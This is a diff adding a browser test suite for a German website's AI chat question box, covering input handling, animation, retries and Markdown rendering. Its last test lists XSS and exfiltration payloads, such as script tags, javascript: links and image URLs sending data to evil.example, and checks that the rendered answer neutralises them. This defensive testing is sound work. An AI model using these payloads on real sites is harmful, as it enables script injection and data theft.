@@ -1,0 +1,380 @@
+import type { Page, Request, Route } from 'playwright'
+import { expect, test } from 'vitest'
+import { useBrowser, visit, type Visit, type VisitOptions } from './browser.ts'
+import { pass, settle, stopClock } from './states.ts'
+
+useBrowser()
+
+const emptyResult = 'Entschuldigung, ich konnte keine passende Antwort generieren.'
+const exception =
+  'Entschuldigung, es gab einen Fehler bei der Verarbeitung Ihrer Anfrage. Bitte versuchen Sie es später erneut.'
+
+type Service = (route: Route, request: Request) => unknown
+
+/** The chat service says `content`. */
+const says =
+  (content: string): Service =>
+  (route) =>
+    route.fulfill({ json: { messages: [{ content }], conversationId: 'g-1' } })
+
+/** A visitor with the focus in the awake question box of the home page. */
+const atBox = (
+  service: Service | undefined,
+  use: (visit: Visit) => Promise<void>,
+  options: VisitOptions = { reducedMotion: 'reduce' },
+) =>
+  visit(
+    '/',
+    async (visiting) => {
+      const { page } = visiting
+      await input(page).focus()
+      await expect.poll(() => page.locator('[data-live=intent][data-awake]').count()).toBe(1)
+      await settle(page)
+      await use(visiting)
+    },
+    {
+      ...options,
+      before: async (page) => {
+        await options.before?.(page)
+        if (service !== undefined) await page.route('**/api/langflow', service)
+      },
+    },
+  )
+
+const input = (page: Page) => page.locator('input[name=question]')
+const button = (page: Page) => page.getByRole('button', { name: 'Frage stellen' })
+const status = (page: Page) => page.locator('.question-box-status')
+const answer = (page: Page) => page.locator('.question-box-answer')
+const canvas = (page: Page) => page.locator('.question-box canvas')
+
+const isFocused = (page: Page) => input(page).evaluate((field) => field === document.activeElement)
+
+/** As a visitor does, who does not ask whether it is disabled. */
+const pressButton = (page: Page) => button(page).click({ force: true })
+
+async function askFor(page: Page, question: string): Promise<void> {
+  await input(page).fill(question)
+  await page.keyboard.press('Enter')
+}
+
+test('an empty or blank question is ignored silently; the button focuses the input', () =>
+  atBox(
+    () => expect.unreachable('Nothing was asked'),
+    async ({ page, console }) => {
+      for (const blank of ['', '   ']) {
+        await input(page).fill(blank)
+        expect(await button(page).getAttribute('aria-disabled')).toBe('true')
+        await page.keyboard.press('Enter')
+        await pressButton(page)
+        expect(await isFocused(page)).toBe(true)
+        expect(await status(page).innerText()).toBe('')
+        expect(new URL(page.url()).pathname).toBe('/')
+      }
+      await input(page).fill('x')
+      expect(await button(page).getAttribute('aria-disabled')).toBe('false')
+      expect(console).toEqual([])
+    },
+  ))
+
+test('a first click on the button, before any script has come, focuses the input too', () =>
+  visit('/', async ({ page }) => {
+    await pressButton(page)
+    await expect.poll(() => isFocused(page)).toBe(true)
+    expect(new URL(page.url()).search).toBe('')
+  }))
+
+test('a question is posted to /api/langflow as JSON with one user message and the webhook id', async () => {
+  const requests: Request[] = []
+  await atBox(
+    (route, request) => {
+      requests.push(request)
+      return says('Ja.')(route, request)
+    },
+    async ({ page }) => {
+      await input(page).fill('  Was kostet das?  ')
+      await button(page).click()
+      await expect.poll(() => answer(page).innerText()).toBe('Ja.')
+      expect(requests).toHaveLength(1)
+      const [request] = requests
+      expect(request?.method()).toBe('POST')
+      expect(await request?.allHeaders()).toMatchObject({
+        'content-type': 'application/json',
+        accept: 'application/json',
+      })
+      expect(request?.postDataJSON()).toEqual({
+        messages: [{ role: 'user', content: 'Was kostet das?' }],
+        webhookId: 'website',
+      })
+    },
+  )
+})
+
+test('a submit dissolves the question into particles on an 800x800 canvas; meanwhile the input is blocked', () =>
+  atBox(
+    says('Ja.'),
+    async ({ page, console }) => {
+      await askFor(page, 'Was kostet ein erstes KI-Projekt?')
+      await canvas(page).waitFor()
+      expect(await canvas(page).getAttribute('width')).toBe('800')
+      expect(await canvas(page).getAttribute('height')).toBe('800')
+      const line = await dust(page)
+      expect(line.particles).toBeGreaterThan(1000)
+      await pass(page, 400)
+      expect(await input(page).getAttribute('readonly')).toBe('')
+      await page.keyboard.type('dazwischen')
+      expect(await input(page).inputValue()).toBe('Was kostet ein erstes KI-Projekt?')
+      expect((await dust(page)).height).toBeGreaterThan(line.height + 10)
+
+      await pass(page, 900)
+      await expect.poll(() => canvas(page).count()).toBe(0)
+      expect(await input(page).inputValue()).toBe('')
+      await expect.poll(() => input(page).getAttribute('readonly')).toBe(null)
+      expect(await isFocused(page)).toBe(true)
+      await page.keyboard.type('Und')
+      expect(await input(page).inputValue()).toBe('Und')
+      expect(console).toEqual([])
+    },
+    { before: stopClock },
+  ))
+
+/** How many pixels of the canvas are drawn, and how far from the highest to the lowest. */
+const dust = (page: Page) =>
+  canvas(page).evaluate((element) => {
+    if (!(element instanceof HTMLCanvasElement)) throw new Error('No canvas')
+    const image = element.getContext('2d')?.getImageData(0, 0, 800, 800).data ?? []
+    const rows = [...image].flatMap((value, index) =>
+      index % 4 === 3 && value > 0 ? [Math.floor(index / 4 / 800)] : [],
+    )
+    return { particles: rows.length, height: (rows.at(-1) ?? 0) - (rows[0] ?? 0) }
+  })
+
+test('the particles have left the strip after 1.2 s at the latest, however long the question is', () =>
+  atBox(
+    says('Ja.'),
+    async ({ page }) => {
+      await askFor(page, 'Lange Fragen zerfallen so schnell wie kurze. '.repeat(20))
+      await canvas(page).waitFor()
+      await pass(page, 1300)
+      await expect.poll(() => canvas(page).count()).toBe(0)
+      expect(await input(page).inputValue()).toBe('')
+    },
+    { before: stopClock },
+  ))
+
+test('while an answer is on its way the box says “Generiere Antwort”', async () => {
+  const held: Route[] = []
+  await atBox(
+    (route) => held.push(route),
+    async ({ page }) => {
+      await askFor(page, 'Was bringt uns das?')
+      await expect.poll(() => status(page).innerText()).toBe('Generiere Antwort')
+      expect(await status(page).getAttribute('role')).toBe('status')
+      await held[0]?.fulfill({ json: { response: 'Zeit.' } })
+      await expect.poll(() => status(page).innerText()).toBe('Zeit.')
+    },
+  )
+})
+
+test('the answer is rendered as Markdown; its links open in a new tab', () =>
+  atBox(
+    says(
+      'Ja, **sofort**:\n\n- eins\n- zwei\n\nMehr [hier](/beratung) und [dort](https://a.example/).',
+    ),
+    async ({ page, console }) => {
+      await askFor(page, 'Geht das?')
+      await expect.poll(() => answer(page).locator('strong').textContent()).toBe('sofort')
+      expect(await answer(page).locator('li').allTextContents()).toEqual(['eins', 'zwei'])
+      const links = await answer(page)
+        .locator('a')
+        .evaluateAll((all) => all.map(({ outerHTML }) => outerHTML.replace(/>.*/, '>')))
+      expect(links).toEqual([
+        '<a href="/beratung" target="_blank" rel="noopener noreferrer">',
+        '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">',
+      ])
+      const [tab] = await Promise.all([
+        page.context().waitForEvent('page'),
+        answer(page).locator('a').first().click(),
+      ])
+      await tab.waitForURL('**/beratung')
+      expect(new URL(page.url()).pathname).toBe('/')
+      expect(console).toEqual([])
+    },
+  ))
+
+test('an empty result says that no fitting answer could be generated, in red', async () => {
+  for (const content of ['', ' \n ']) {
+    await atBox(says(content), async ({ page }) => {
+      await askFor(page, 'Hm?')
+      await expect.poll(() => status(page).innerText()).toBe(emptyResult)
+      await expect.poll(() => isRed(page)).toBe(true)
+    })
+  }
+})
+
+const isRed = (page: Page) =>
+  page.locator('.question-box-error').evaluate((error) => {
+    const pixel = new OffscreenCanvas(1, 1).getContext('2d')
+    if (pixel === null) return undefined
+    pixel.fillStyle = getComputedStyle(error).color
+    pixel.fillRect(0, 0, 1, 1)
+    const [red = 0, green = 0, blue = 0] = pixel.getImageData(0, 0, 1, 1).data
+    return red > 1.5 * green && red > 1.5 * blue
+  })
+
+test('a failing call is retried after 1000, 2000 and 4000 ms, then the exception text stands in red', async () => {
+  let calls = 0
+  await atBox(
+    undefined,
+    async ({ page }) => {
+      page.on('response', (response) => {
+        if (response.url().endsWith('/api/langflow') && response.status() === 503) calls += 1
+      })
+      await askFor(page, 'Sind Sie da?')
+      await expect.poll(() => calls).toBe(1)
+      for (const [retry, wait] of [1000, 2000, 4000].entries()) {
+        await settled(page)
+        await pass(page, wait - 1)
+        await settled(page)
+        expect(calls).toBe(retry + 1)
+        expect(await status(page).innerText()).toBe('Generiere Antwort')
+        await pass(page, 1)
+        await expect.poll(() => calls).toBe(retry + 2)
+      }
+      await expect.poll(() => status(page).innerText()).toBe(exception)
+      await expect.poll(() => isRed(page)).toBe(true)
+      await pass(page, 20_000)
+      expect(calls).toBe(4)
+    },
+    { before: stopClock, reducedMotion: 'reduce' },
+  )
+})
+
+/** Until the page has read the answer that has just come. */
+async function settled(page: Page): Promise<void> {
+  await page.evaluate(() => fetch('/').then((response) => response.text()))
+  await settle(page)
+}
+
+test('typing, a click outside the form and Escape clear answer and error; a click inside does not', async () => {
+  for (const content of ['Ja.', '']) {
+    await atBox(says(content), async ({ page }) => {
+      const outcome = () => status(page).innerText()
+      const acts = [
+        () => input(page).press('w'),
+        () => page.locator('h1').click(),
+        () => input(page).press('Escape'),
+      ]
+      for (const act of acts) {
+        await askFor(page, 'Und nun?')
+        await expect.poll(outcome).toBe(content || emptyResult)
+        await status(page).click()
+        await settle(page)
+        expect(await outcome()).toBe(content || emptyResult)
+        await act()
+        await expect.poll(outcome).toBe('')
+      }
+      expect(await input(page).inputValue()).toBe('')
+    })
+  }
+})
+
+test('submitting clears the error before it and starts loading', async () => {
+  const held: Route[] = []
+  await atBox(
+    (route) => held.push(route),
+    async ({ page }) => {
+      await askFor(page, 'Erste Frage')
+      await expect.poll(() => held.length).toBe(1)
+      await page.keyboard.type('Zweite Frage')
+      await held[0]?.fulfill({ json: {} })
+      await expect.poll(() => status(page).innerText()).toBe(emptyResult)
+      await page.keyboard.press('Enter')
+      await expect.poll(() => status(page).innerText()).toBe('Generiere Antwort')
+    },
+  )
+})
+
+test('the answer to an earlier question is ignored', async () => {
+  const held: Route[] = []
+  await atBox(
+    (route, request) =>
+      request.postData()?.includes('Erste')
+        ? held.push(route)
+        : says('Zweite Antwort')(route, request),
+    async ({ page }) => {
+      await askFor(page, 'Erste Frage')
+      await expect.poll(() => held.length).toBe(1)
+      await askFor(page, 'Zweite Frage')
+      await expect.poll(() => status(page).innerText()).toBe('Zweite Antwort')
+      await held[0]?.fulfill({ json: { response: 'Erste Antwort' } }).catch(() => {})
+      await settled(page)
+      expect(await status(page).innerText()).toBe('Zweite Antwort')
+    },
+  )
+})
+
+test('the window learns from searchVisibilityChange whether the box is on screen', () =>
+  atBox(
+    undefined,
+    async ({ page }) => {
+      const heard = () => page.evaluate('heard')
+      await expect.poll(heard).toEqual([true])
+      await page.evaluate(() => scrollTo({ top: 3000, behavior: 'instant' }))
+      await expect.poll(heard).toEqual([true, false])
+      await page.evaluate(() => scrollTo({ top: 0, behavior: 'instant' }))
+      await expect.poll(heard).toEqual([true, false, true])
+    },
+    {
+      before: (page) =>
+        page.addInitScript(() => {
+          const heard: unknown[] = []
+          Object.assign(globalThis, { heard })
+          addEventListener('searchVisibilityChange', (event) => {
+            if (event instanceof CustomEvent) heard.push(event.detail.isVisible)
+          })
+        }),
+    },
+  ))
+
+/** What a hostile service may try. None of it may run, load or lead anywhere. */
+const hostile = [
+  '<script>globalThis.pwned = true</script>',
+  '<img src="https://evil.example/a.png" onerror="globalThis.pwned = true">',
+  '![Bild](https://evil.example/b.png?d=geheim)',
+  '![Bild][b]\n\n[b]: https://evil.example/c.png',
+  '[klick](javascript:globalThis.pwned=true)',
+  '[klick](JaVa&#x53;cript:globalThis.pwned=true)',
+  '[klick](data:text/html,<script>alert(1)</script>)',
+  '[klick](vbscript:x)',
+  '[klick](//evil.example/x)',
+  String.raw`[klick](/\evil.example/x)`,
+  '<javascript:globalThis.pwned=true>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<form action="https://evil.example/"><input name="q"><button>Los</button></form>',
+  '<svg onload="globalThis.pwned = true"><use href="https://evil.example/d.svg#x"></use></svg>',
+  '<style>@import "https://evil.example/e.css"</style>',
+  '<a href="https://evil.example/" onclick="globalThis.pwned = true">Link</a>',
+]
+
+test('an answer cannot run scripts, load pictures, add forms or lead to other schemes', () =>
+  atBox(says(hostile.join('\n\n')), async ({ page, console }) => {
+    const elsewhere: string[] = []
+    const own = new URL(page.url()).origin
+    page.on('request', (request) => {
+      if (new URL(request.url()).origin !== own) elsewhere.push(request.url())
+    })
+    await askFor(page, 'Was nun?')
+    await expect.poll(() => answer(page).locator('p').count()).toBeGreaterThan(1)
+    await page.waitForLoadState('networkidle')
+    expect(await page.evaluate('globalThis.pwned')).toBe(undefined)
+    const elements = await answer(page)
+      .locator('*')
+      .evaluateAll((all) => [...new Set(all.map(({ localName }) => localName))])
+    expect(elements.toSorted()).toEqual(['a', 'p', 'span'])
+    const targets = await answer(page)
+      .locator('a')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
+    expect(targets).toEqual(['/%5Cevil.example/x'])
+    expect(elsewhere).toEqual([])
+    expect(console).toEqual([])
+  }))
